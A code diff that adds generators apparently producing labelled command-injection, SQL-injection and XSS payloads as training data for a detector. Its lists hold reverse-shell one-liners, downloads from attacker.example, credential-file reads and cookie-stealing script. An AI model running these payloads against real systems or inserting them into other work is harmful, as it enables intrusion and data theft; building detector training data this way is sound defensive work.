@@ -4,6 +4,8 @@
  * quoting tricks, a benign-looking prefix. Training on them teaches the model the attack's grammar
  * rather than the exact strings of the shared lists.
  */
+import { seededRandom } from '../prng.js';
+
 type Random = () => number;
 
 function pick<T>(items: readonly T[], random: Random): T {
@@ -86,6 +88,81 @@ export function mutateAttack(text: string, category: string, random: Random): st
     else if (category === 'xss' && r < 0.45) out = pick([splitJsCalls, randomCase], random)(out, random);
     else if (category === 'cmdexe' && r < 0.5) out = shellTricks(out, random);
     else out = pick(GENERIC, random)(out, random);
+  }
+  return out;
+}
+
+const SHELL_COMMANDS = [
+  'id', 'whoami', 'uname -a', 'cat /etc/passwd', 'cat /etc/shadow', 'ping -c 3 127.0.0.1', 'ping -n 3 127.0.0.1', 'sleep 5',
+  'ls -la', 'ls /', 'dir c:\\', 'type c:\\windows\\win.ini', 'net user', 'ifconfig', 'ipconfig /all', 'nslookup attacker.example',
+  'curl http://attacker.example/x', 'wget http://attacker.example/s.sh -O /tmp/s.sh', 'nc -e /bin/sh attacker.example 4444',
+  'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'echo pwned', 'sh', 'pwd', 'hostname', 'ps aux', 'env', 'rm -rf /tmp/x', 'powershell -enc SQBFAFgA',
+];
+const SHELL_SEPARATORS = [';', '|', '||', '&', '&&', '\n', '%0a', '`', '$(', ';;'];
+
+/** `<value><sep><command>[<sep>]`: the grammar of command injection, over commands attackers run first. */
+function synthesizeCommandInjection(random: Random): string {
+  const cmd = pick(SHELL_COMMANDS, random);
+  const sep = pick(SHELL_SEPARATORS, random);
+  const prefix = pick(['', '1', '127.0.0.1', 'x', 'test.txt', "'", '"', 'a@b.c'], random);
+  const wrapped = sep === '`' ? `\`${cmd}\`` : sep === '$(' ? `$(${cmd})` : `${sep}${random() < 0.3 ? ' ' : ''}${cmd}`;
+  return `${prefix}${wrapped}${pick(['', '', ';', ' #', '|', '&'], random)}`;
+}
+
+const SQL_CORES = [
+  'or 1=1', 'and 1=2', 'or 2>1', 'and sleep(5)', 'or sleep(5)', 'and 1=(select 1 from dual)', 'union select null,null',
+  'union all select 1,2,3', 'order by 5', 'and extractvalue(1,concat(0x7e,version()))', "or 'a'='a", 'and (select count(*) from users)>0',
+  'waitfor delay \'0:0:5\'', 'and benchmark(5000000,md5(1))', 'or pg_sleep(5) is null', 'and updatexml(1,concat(0x7e,user()),1)',
+  'having 1=1', 'group by 1,2', "and substring(@@version,1,1)='5'", 'or exists(select * from users)',
+];
+
+/** `<value><quote><parens> <core> <comment>`: SQL injection boundaries around common cores. */
+function synthesizeSqlInjection(random: Random): string {
+  const n = Math.floor(random() * 9000) + 1;
+  const value = pick([String(n), `-${n}`, 'abc', '', 'admin'], random);
+  const quote = pick(['', "'", '"', '%'], random);
+  const parens = ')'.repeat(Math.floor(random() * 3));
+  const alias = random() < 0.2 ? ` as ${pick(['a', 'x', 't1', 'q'], random)}` : '';
+  const core = random() < 0.5 ? pick(SQL_CORES, random) : pick(SQL_CORES, random).replace(/\b\d+\b/g, () => String(Math.floor(random() * 9999)));
+  const tail = pick(['', '--', '-- -', '#', '/*', ` and ${quote}${n}${quote}=${quote}${n}`, `;--`], random);
+  const sep = pick([' ', ' ', '/**/', '+', '%20'], random);
+  return `${value}${quote}${parens}${alias}${sep}${core.replace(/ /g, sep)}${tail}`;
+}
+
+const XSS_TAGS = ['img', 'svg', 'body', 'iframe', 'details', 'video', 'audio', 'input', 'a', 'div', 'marquee', 'object', 'math', 'style', 'select', 'textarea'];
+const XSS_EVENTS = ['error', 'load', 'focus', 'mouseover', 'toggle', 'click', 'begin', 'pointerenter', 'animationstart', 'focusin', 'blur', 'start'];
+const XSS_JS = ['alert(1)', 'prompt(1)', 'confirm`1`', "eval(atob('YWxlcnQoMSk='))", "fetch('//x.example/?c='+document.cookie)", "top['al'+'ert'](1)", 'alert(document.domain)', 'print()', 'location=`javascript:alert(1)`', 'import(`//x.example/m.js`)'];
+
+/** Markup and script contexts around a handful of sinks: tag × event handler × JS call × breakout. */
+function synthesizeXss(random: Random): string {
+  const js = pick(XSS_JS, random);
+  const tag = pick(XSS_TAGS, random);
+  const q = pick(['', '"', "'"], random);
+  const sep = pick([' ', '/', '\t', '%0a', ' '], random);
+  const breakout = pick(['', '">', "'>", '</textarea>', '</title>', '-->', '</script>'], random);
+  switch (Math.floor(random() * 5)) {
+    case 0:
+      return `${breakout}<${tag}${sep}src=x${sep}on${pick(XSS_EVENTS, random)}=${q}${js}${q}>`;
+    case 1:
+      return `${breakout}<${tag}${sep}on${pick(XSS_EVENTS, random)}=${q}${js}${q}${random() < 0.5 ? ' autofocus' : ''}>`;
+    case 2:
+      return `${pick(['javascript:', 'JaVaScRiPt:', 'java\tscript:', ' javascript:'], random)}${js}`;
+    case 3:
+      return `${breakout}<script>${js}</script>`;
+    default:
+      return `${pick(["'", '"'], random)}${pick(['-', ';', '+'], random)}${js}${pick(['-', ';//', '+'], random)}${pick(["'", '"'], random)}`;
+  }
+}
+
+/** Attacks built from grammar rather than taken from a list: command, SQL and script injection. */
+export function synthesizeAttacks(seed: number, count: number): { text: string; category: string }[] {
+  const random = seededRandom(seed ^ 0xa77ac);
+  const out: { text: string; category: string }[] = [];
+  for (let i = 0; i < count; i++) {
+    const kind = i % 3;
+    if (kind === 0) out.push({ text: synthesizeCommandInjection(random), category: 'cmdexe' });
+    else if (kind === 1) out.push({ text: synthesizeSqlInjection(random), category: 'sqli' });
+    else out.push({ text: synthesizeXss(random), category: 'xss' });
   }
   return out;
 }
